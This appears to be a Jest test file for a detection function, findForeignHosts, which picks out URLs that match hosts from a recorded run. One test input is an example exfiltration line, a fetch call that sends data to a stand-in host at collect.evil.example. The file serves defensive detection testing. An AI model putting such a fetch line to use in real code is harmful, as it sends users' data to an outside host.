import { findForeignHosts } from './foreign-hosts';

const recorded =
  'See https://collect.evil.example/x and wss://ws.evil.example:443, http://user:pw@auth.evil.example/ or ftp://files.example';

describe('findForeignHosts', () => {
  it.each<[string, string[], string[]]>([
    ['a host of the run', ["fetch('https://collect.evil.example/?q=' + data)"], ['collect.evil.example']],
    ['in any case, with any scheme, port and user', ['HTTP://x:y@COLLECT.evil.example:8443'], ['collect.evil.example']],
    [
      'each once',
      ['https://files.example https://files.example', 'ws://ws.evil.example'],
      ['files.example', 'ws.evil.example'],
    ],
    ['no other host', ['https://api.example.com/v1'], []],
    ['no host without a scheme', ['collect.evil.example'], []],
    ['nothing', [], []],
  ])('finds %s', (_name, added, hosts) => expect(findForeignHosts(added, recorded)).toEqual(hosts));
});
